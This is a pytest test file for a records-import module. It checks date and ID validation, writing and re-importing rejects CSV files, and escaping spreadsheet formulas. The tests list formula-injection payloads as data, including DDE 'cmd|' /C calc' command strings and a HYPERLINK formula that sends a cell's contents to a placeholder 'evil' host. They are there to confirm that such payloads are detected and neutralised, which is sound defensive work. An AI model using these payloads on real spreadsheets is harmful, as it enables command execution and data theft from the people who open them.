from __future__ import annotations

import csv
from pathlib import Path

import pytest

from sochub.engine.imports import (
    Mapping,
    RejectedRow,
    RejectsWriter,
    ValidRow,
    escape_cell,
    guess_mapping,
    looks_like_formula,
    read_table,
    runs_code,
    unescape_cell,
    validate_table,
)

from .conftest import TODAY


def _write_rejects(mapping: Mapping, source: Path, out: Path) -> list[RejectedRow]:
    table = read_table(source)
    rejected = [r for r in validate_table(mapping, table, today=TODAY) if isinstance(r, RejectedRow)]
    with RejectsWriter(out, table.headers) as writer:
        for row in rejected:
            writer.write(row)
    assert writer.count == len(rejected)
    return rejected


def test_rejects_file_fixed_and_reimported_validates(nominals_csv: Path, tmp_path: Path) -> None:
    table = read_table(nominals_csv)
    mapping = Mapping.model_validate(guess_mapping("nominals", table.headers).model_dump())
    out = tmp_path / "rejects.csv"
    rejected = _write_rejects(mapping, nominals_csv, out)
    assert [r.row_number for r in rejected] == [4, 5, 6, 9]

    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        lines = list(csv.reader(fh))
    assert lines[0] == [*table.headers, "rejected_row", "rejection_reasons"]
    assert lines[1][: len(table.headers)] == [rejected[0].raw[h] for h in table.headers]
    assert lines[1][-2] == "4"
    assert "DOB: ‘31/02/1990’ is not a real date;" in lines[1][-1]
    assert "PNC ID: ‘12345’ is not a PNC ID: expected YY/NNNNNNNL, e.g. 98/1234567A" in lines[1][-1]

    # The person fixes the cells (in a spreadsheet) and imports the file again with the same mapping.
    fixes = {
        "4": {"DOB": "28/02/1990", "Post Code": "LS1 4AP", "PNC ID": "12/345678B", "NINO": "AB123456C",
              "Mobile": "0113 496 0000", "E-mail": "priya@example.org", "VRM": "YX19 ABC", "Warnings": "weapons"},
        "5": {"Surname": "Unknown"},
        "6": {"DOB": "01/01/1999"},
        "9": {"Record ID": "GMP-0007"},
    }
    for line in lines[1:]:
        for header, value in fixes[line[-2]].items():
            line[table.headers.index(header)] = value
    fixed = tmp_path / "rejects-fixed.csv"
    with fixed.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(lines)

    again = list(validate_table(mapping, read_table(fixed), today=TODAY))
    assert all(isinstance(r, ValidRow) for r in again), [r for r in again if isinstance(r, RejectedRow)]
    assert [r.source_key for r in again] == ["GMP-0003", "GMP-0004", "GMP-0005", "GMP-0007"]


def test_rejects_of_a_rejects_file_do_not_repeat_trailing_columns(nominals_csv: Path, tmp_path: Path) -> None:
    mapping = Mapping.model_validate(guess_mapping("nominals", read_table(nominals_csv).headers).model_dump())
    first = tmp_path / "r1.csv"
    _write_rejects(mapping, nominals_csv, first)
    second = tmp_path / "r2.csv"
    rejected = _write_rejects(mapping, first, second)
    # the repeated GMP-0002 (now row 5) is alone in the rejects file, so it passes this time
    assert [r.row_number for r in rejected] == [2, 3, 4]
    header = read_table(second).headers
    assert header.count("rejected_row") == 1 and header[-2:] == ["rejected_row", "rejection_reasons"]


@pytest.mark.parametrize(
    ("cell", "formula"),
    [
        ('=HYPERLINK("http://x","y")', True),
        ("=1+1", True),
        (" =cmd", True),
        ("@SUM(A1)", True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ('-1+HYPERLINK("http://x","y")', True),
        ('+"a"&HYPERLINK("x")', True),
        ('-(HYPERLINK("x"))', True),
        ("\t=1", True),
        ("+44 7700 900123", False),
        ("-5", False),
        ("-0.5", False),
        ("Smith", False),
        ("'=1+1", False),
    ],
)
def test_formula_detection(cell: str, formula: bool) -> None:
    assert looks_like_formula(cell) is formula
    assert runs_code(cell) is formula


@pytest.mark.parametrize("cell", ["- seen at the car wash", "@handle", "+ more to follow"])
def test_text_starting_with_a_trigger_is_accepted_but_escaped_on_the_way_out(cell: str) -> None:
    assert not runs_code(cell)
    assert escape_cell(cell) == "'" + cell and unescape_cell(escape_cell(cell)) == cell


@pytest.mark.parametrize(
    "cell", ["=HYPERLINK(1)", "'=HYPERLINK(1)", "''=1", "+44 7700 900123", "'quoted'", "-5", "@SUM(1)", ""]
)
def test_escape_round_trips(cell: str) -> None:
    escaped = escape_cell(cell)
    assert unescape_cell(escaped) == cell
    assert not looks_like_formula(escaped)


def test_formula_cells_are_neutralised_in_the_rejects_file_but_round_trip(tmp_path: Path) -> None:
    source = tmp_path / "evil.csv"
    source.write_text(
        'Ref,Surname,Notes,Phone\n1,Smith,"=HYPERLINK(""https://evil/?""&A2,""x"")",+44 7700 900123\n',
        encoding="utf-8",
    )
    mapping = Mapping(kind="nominals", columns={"source_key": "Ref", "surname": "Surname", "notes": "Notes",
                                                "phone": "Phone"})
    out = tmp_path / "rejects.csv"
    (rejected,) = _write_rejects(mapping, source, out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        written = list(csv.reader(fh))[1]
    assert written[2] == "'=HYPERLINK(\"https://evil/?\"&A2,\"x\")"
    assert written[3] == "+44 7700 900123"
    assert not any(looks_like_formula(c) for c in written)
    (again,) = dict(read_table(out).rows()).values()
    assert again["Notes"] == rejected.raw["Notes"] and again["Phone"] == "+44 7700 900123"


def test_hostile_header_is_escaped_in_reasons(tmp_path: Path) -> None:
    row = RejectedRow(2, {"=X(1)": "a"}, {"surname": "bad (column ‘=X(1)’)"}, {"surname": "=X(1)"})
    out = tmp_path / "r.csv"
    with RejectsWriter(out, ["=X(1)"]) as writer:
        writer.write(row)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        lines = list(csv.reader(fh))
    assert lines[0][0] == "'=X(1)" and lines[1][-1] == "'=X(1): bad"
    assert read_table(out).headers[0] == "=X(1)"


def test_writer_outside_context_manager_refuses(tmp_path: Path) -> None:
    with pytest.raises(RuntimeError):
        RejectsWriter(tmp_path / "x.csv", ["a"]).write(RejectedRow(2, {}, {}))
